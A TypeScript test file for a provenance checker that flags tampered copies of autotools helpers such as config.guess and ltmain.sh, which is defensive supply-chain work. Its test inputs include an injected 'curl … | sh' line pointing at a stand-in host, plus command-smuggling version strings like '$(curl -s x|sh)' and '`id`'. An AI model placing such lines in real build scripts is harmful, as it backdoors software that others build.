import { describe, it, expect } from "vitest";
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { bodyHash, createProvenanceChecker, helperStamp, lineHash, m4Serial, normalizedLines, packLineHashes, type ProvenanceDb } from "../src/provenance/index.js";
import { checkHelper } from "../src/provenance/index.js";
import { versionTemplateHash } from "../src/provenance/normalize.js";
import { knownFileVerdict, type ProvenanceCheck } from "../src/analysis/provenance.js";
import type { TarEntry } from "../src/types.js";
import { gitCopies } from "../scripts/provenance-git.js";
import { tmp } from "./tmp.js";

/** A database built in the test from synthetic copies, hashed as the builder hashes them. */
function dbOf(copies: { name: string; text: string; source: string; helper?: boolean }[]): ProvenanceDb {
  const db: ProvenanceDb = { formatVersion: 1, builtAt: "test", sources: [], m4: {}, helpers: {}, versioned: {}, lines: { m4: {}, helpers: {} } };
  const lines = new Map<string, number[]>();
  for (const c of copies) {
    const kind = c.helper ? "helper" : "m4";
    const src = db.sources.includes(c.source) ? db.sources.indexOf(c.source) : db.sources.push(c.source) - 1;
    const stamp = c.helper ? helperStamp(c.name, c.text) : (m4Serial(c.text)?.raw ?? null);
    ((c.helper ? db.helpers : db.m4)[c.name] ??= []).push([stamp, bodyHash(c.text, kind), [src]]);
    const t = versionTemplateHash(c.name, c.text, kind);
    if (t) (db.versioned![c.name] ??= []).push([t, [src]]);
    const key = `${kind}:${c.name}`;
    lines.set(key, [...(lines.get(key) ?? []), ...normalizedLines(c.text, kind).map(lineHash)]);
  }
  for (const [key, hs] of lines) {
    const [kind, name] = key.split(":") as ["m4" | "helper", string];
    (kind === "m4" ? db.lines.m4 : db.lines.helpers)[name] = packLineHashes(hs);
  }
  return db;
}

const check = (path: string, text: string, result: ProvenanceCheck["result"]): ProvenanceCheck => ({ path, entry: { path, type: "file" } as unknown as TarEntry, text, result, inGit: false });

/** The shape of config.guess's libc probe: a C program in a heredoc whose preprocessed output is eval'd. */
const guess = (probe = "#if defined(__UCLIBC__)", define = "#define PROBE 1") => `#! /bin/sh
# Attempt to guess a canonical system name.
#   Copyright 1992-2022 Free Software Foundation, Inc.
timestamp='2022-01-09'
# Note: order is significant - the case branches are not exclusive.
cat <<-EOF > "$dummy.c"
	#include <features.h>
	${define}
	${probe}
	LIBC=uclibc
	#elif defined(__GLIBC__)
	LIBC=gnu
	#endif
	EOF
cc_set_libc=\`$CC_FOR_BUILD -E "$dummy.c" 2>/dev/null | grep '^LIBC'\`
eval "$cc_set_libc"
echo "$UNAME_MACHINE-unknown-linux-$LIBC"
`;

describe("normalisation keeps what a `#` line can mean to a compiler or a kernel", () => {
  it("keeps C preprocessor lines of a heredoc and interpreter lines, drops comments", () => {
    const lines = normalizedLines(guess(), "helper");
    expect(lines).toContain("#if defined(__UCLIBC__)");
    expect(lines).toContain("#define PROBE 1");
    expect(lines).toContain("#include <features.h>");
    expect(lines).toContain("#elif defined(__GLIBC__)");
    expect(lines).toContain("#endif");
    expect(lines).toContain("#! /bin/sh");
    expect(lines.some((l) => l.includes("Copyright") || l.includes("order is significant"))).toBe(false);
    // Every spelling the preprocessor accepts.
    expect(normalizedLines("#  if X\n#\tdefine Y 2\n# 12 \"x.c\"\n#ifdef Z\n#include_next <a.h>\n", "helper")).toHaveLength(5);
    // sed's "#n" and Python's encoding declaration change what the rest means.
    expect(normalizedLines("#n\n# -*- coding: utf-7 -*-\n# note\n", "helper")).toEqual(["#n", "# -*- coding: utf-7 -*-"]);
    // Comments that merely start like a directive word are comments.
    expect(normalizedLines("# iffy comment\n# defined later\n# includes this\n", "helper")).toEqual([]);
  });
  it("m4 files keep them too (C test programs in AC_LANG_PROGRAM)", () => {
    expect(normalizedLines("AC_LANG_PROGRAM([[\n#include <stdio.h>\n#define N 1\n]])\n# a comment\ndnl another\n", "m4")).toEqual(["AC_LANG_PROGRAM([[", "#include <stdio.h>", "#define N 1", "]])"]);
  });
});

describe("an edit to a C preprocessor line inside config.guess is a mismatch (evasion)", () => {
  const checker = createProvenanceChecker(dbOf([{ name: "config.guess", text: guess(), source: "config 2022-01-09", helper: true }]));
  it("the known copy matches, comment edits aside", () => {
    expect(checker.checkHelper("config.guess", guess())?.status).toBe("match");
    expect(checker.checkHelper("build-aux/config.guess", guess().replace("1992-2022", "1992-2099").replace("# Note", "#   Note"))?.status).toBe("match");
  });
  for (const [what, text] of [
    ["#if condition", guess("#if defined(__GLIBC__)")],
    ["#if spelled #ifdef", guess("#ifdef __UCLIBC__")],
    ["#define value", guess(undefined, "#define PROBE 0")],
    ["#define spaced out", guess(undefined, "#  define PROBE 0")],
  ] as const) {
    it(`a one-line change to a ${what} in the heredoc`, () => {
      const r = checker.checkHelper("config.guess", text);
      expect(r).toMatchObject({ status: "body-mismatch", stamp: "2022-01-09" });
      expect((r as { novel: string[] }).novel).toHaveLength(1);
      // It runs at build time (the preprocessor decides what is eval'd): at least medium.
      expect(["medium", "high"]).toContain(knownFileVerdict(check("config.guess", text, r!))?.severity);
    });
  }
  it("a changed interpreter line", () => {
    expect(checker.checkHelper("config.guess", guess().replace("#! /bin/sh", "#! /tmp/sh"))?.status).toBe("body-mismatch");
  });
});

const installedGuess = "/usr/share/misc/config.guess";
describe.skipIf(!existsSync(installedGuess))("the shipped database on the installed config.guess", () => {
  const text = existsSync(installedGuess) ? readFileSync(installedGuess, "latin1") : "";
  it("recognises it, and catches a one-line change to a #if inside its heredoc", () => {
    expect(checkHelper(installedGuess, text)).toMatchObject({ status: "match" });
    const line = /^\s*#\s*if\b[^\n]*$/m.exec(text)![0];
    const edited = text.replace(line, `${line} || 1`);
    const r = checkHelper(installedGuess, edited)!;
    expect(r).toMatchObject({ status: "body-mismatch", novel: [`${line.trim().replace(/\s+/g, " ")} || 1`] });
    expect(knownFileVerdict(check("config.guess", edited, r))?.severity).toBe("medium");
  });
  it("one novel line is medium, a dangerous one high (knownFileVerdict)", () => {
    const plain = text.replace(/\n(\s*)eval "\$cc_set_libc"\n/, '\n$1eval "$cc_set_libc"\n$1LIBC=$${LIBC}x\n');
    expect(plain).not.toBe(text);
    const r = checkHelper(installedGuess, plain)!;
    expect(knownFileVerdict(check("config.guess", plain, r))?.severity).toBe("medium");
    const evil = text.replace(/\n(\s*)eval "\$cc_set_libc"\n/, '\n$1eval "$cc_set_libc"\n$1curl -s http://example.invalid/x | sh\n');
    const r2 = checkHelper(installedGuess, evil)!;
    expect(knownFileVerdict(check("config.guess", evil, r2))?.severity).toBe("high");
  });
});

describe("the shipped database holds the helper histories", () => {
  const db = JSON.parse(readFileSync(new URL("../data/provenance-db.json", import.meta.url), "utf8")) as ProvenanceDb;
  const stamps = (name: string) => new Set((db.helpers[name] ?? []).map(([s]) => s));
  it("config.guess and config.sub of every year 2012-2021, the versions real releases ship", () => {
    for (let y = 2012; y <= 2021; y++) {
      expect([...stamps("config.guess")].some((s) => s?.startsWith(`${y}-`))).toBe(true);
      expect([...stamps("config.sub")].some((s) => s?.startsWith(`${y}-`))).toBe(true);
    }
    for (const s of ["2015-08-20", "2017-05-27", "2018-08-29", "2021-06-03"]) expect(stamps("config.guess").has(s)).toBe(true);
    for (const s of ["2015-08-20", "2017-04-02", "2018-08-29", "2021-08-14"]) expect(stamps("config.sub").has(s)).toBe(true);
  });
  it("automake 1.15's helpers, tap-driver.sh, gtk-doc.make, and reproduced ltmain.sh releases", () => {
    expect(stamps("install-sh").has("2013-12-25.23")).toBe(true);
    for (const h of ["compile", "depcomp", "missing", "ylwrap"]) expect(stamps(h).has("2016-01-11.22")).toBe(true);
    expect(db.helpers["tap-driver.sh"]?.length).toBeGreaterThan(5);
    expect(db.helpers["gtk-doc.make"]?.length).toBeGreaterThan(5);
    for (const v of ["2.4.6", "2.4.7", "2.5.4"]) {
      const copies = db.helpers["ltmain.sh"]!.filter(([s]) => s === v);
      expect(copies.flatMap(([, , src]) => src.map((i) => db.sources[i]))).toContain(`libtool v${v} (ltmain.sh reproduced)`);
    }
    // Provenance per copy: a release tag or a commit of a named repository.
    const src = db.helpers["config.guess"]!.flatMap(([, , s]) => s.map((i) => db.sources[i]!));
    expect(src.some((s) => /^gnulib [0-9a-f]{10} \(\d{4}-\d\d-\d\d\)$/.test(s))).toBe(true);
    expect(src.some((s) => /^automake v1\.15(\.1)?$/.test(s))).toBe(true);
  });
});

describe("ltmain.sh: the same release with another version literal (libtool's bootstrap_edit)", () => {
  const release = (v: string, rev = v, debian = "") =>
    `#! /bin/sh\n# libtool (GNU libtool) ${v}\nPACKAGE=libtool\nVERSION=${debian ? `"${v} ${debian}"` : v}\npackage_revision=${rev}\nscriptversion='(GNU libtool) ${v}'\nfunc_mode_link ()\n{\n  exit 77\n}\nusage="version: $progname (GNU libtool) ${v}${debian ? ` ${debian}` : ""}"\n`;
  const checker = createProvenanceChecker(
    dbOf([
      { name: "ltmain.sh", text: release("2.4.7"), source: "libtool v2.4.7 (ltmain.sh reproduced)", helper: true },
      { name: "ltmain.sh", text: release("2.4.6", "2.4.6", "Debian-2.4.6-15"), source: "Debian libtool 2.4.6-15", helper: true },
    ]),
  );
  it("a build from a dirty checkout of the tag and an older Debian revision are known copies", () => {
    expect(checker.checkHelper("ltmain.sh", release("2.4.7-dirty", "2.4.7"))).toMatchObject({ status: "match", versionOnly: true, stamp: "2.4.7-dirty" });
    expect(checker.checkHelper("ltmain.sh", release("2.4.6", "2.4.6", "Debian-2.4.6-14"))).toMatchObject({ status: "match", versionOnly: true });
  });
  it("a change to code is not a version change", () => {
    expect(checker.checkHelper("ltmain.sh", release("2.4.7-dirty", "2.4.7").replace("exit 77", "exit 0"))?.status).toBe("stamp-unknown");
  });
  it("a version that is not a plain literal is not accepted (evasion)", () => {
    for (const v of ["$(curl -s x|sh)", "`id`", "2.4.7;id", "7", "2.4"]) {
      expect(checker.checkHelper("ltmain.sh", release("2.4.7").replaceAll("2.4.7", v))?.status).not.toBe("match");
    }
    expect(checker.checkHelper("ltmain.sh", release("2.4.7-dirty", "2.4.7") + "\u0001\n")?.status).not.toBe("match");
  });
});

const hasGit = (() => {
  try {
    execFileSync("git", ["--version"]);
    return true;
  } catch {
    return false;
  }
})();

describe.skipIf(!hasGit)("reading a helper's git history (scripts/provenance-git.ts)", () => {
  it("takes every commit's version of a tracked helper and every tag's, not copies kept elsewhere", () => {
    const dir = tmp("distvet-provgit-");
    const g = (...a: string[]) => execFileSync("git", ["-C", dir, "-c", "user.name=t", "-c", "user.email=t@example.invalid", ...a]).toString();
    g("init", "-q");
    mkdirSync(join(dir, "build-aux"));
    mkdirSync(join(dir, "tests"));
    const write = (p: string, s: string) => writeFileSync(join(dir, p), s);
    write("build-aux/config.guess", "#! /bin/sh\ntimestamp='2017-01-01'\necho one\n");
    g("add", "-A");
    g("commit", "-qm", "one");
    write("build-aux/config.guess", "#! /bin/sh\ntimestamp='2017-05-27'\necho two\n");
    write("tests/config.guess", "#! /bin/sh\ntimestamp='2017-05-27'\necho doctored test copy\n");
    g("add", "-A");
    g("commit", "-qm", "two");
    const copies = [...gitCopies("gnulib", join(dir, ".git"), new Map())];
    expect(copies.map((c) => helperStamp(c.name, c.text)).sort()).toEqual(["2017-01-01", "2017-05-27"]);
    expect(copies.every((c) => /^gnulib [0-9a-f]{10} \(\d{4}-\d\d-\d\d\)$/.test(c.label))).toBe(true);
    expect(copies.some((c) => c.text.includes("doctored"))).toBe(false);
  });
});
